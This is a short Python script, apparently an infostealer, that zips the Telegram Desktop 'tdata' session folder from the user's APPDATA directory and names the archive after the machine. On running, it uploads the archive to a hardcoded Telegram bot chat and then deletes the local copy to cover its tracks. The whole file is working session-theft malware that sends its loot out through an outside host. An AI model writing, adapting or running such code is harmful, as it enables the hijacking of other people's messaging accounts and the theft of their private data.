import asyncio
import os
import platform
import aiohttp
import zipfile
import tempfile

BOT = "1234567890:AAaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
CHAT = 123456789

async def post(session, method, **fields):
    form = aiohttp.FormData()
    for k, v in fields.items():
        form.add_field(k, v if not isinstance(v, int) else str(v))
    async with session.post(f"https://api.telegram.org/bot{BOT}/{method}", data=form) as r:
        return await r.json()

def pack():
    tdata = os.path.join(os.environ.get("APPDATA", ""), "Telegram Desktop", "tdata")
    out = os.path.join(tempfile.gettempdir(), platform.node() + ".zip")
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for root, _, files in os.walk(tdata):
            if "user_data" in root:
                continue
            for f in files:
                try:
                    z.write(os.path.join(root, f), os.path.relpath(os.path.join(root, f), tdata))
                except PermissionError:
                    pass
    return out

async def amain():
    async with aiohttp.ClientSession() as s:
        p = pack()
        await post(s, "sendDocument", chat_id=CHAT, document=open(p, "rb"))
        os.remove(p)

def init():
    loop = asyncio.new_event_loop()
    loop.run_until_complete(amain())

init()
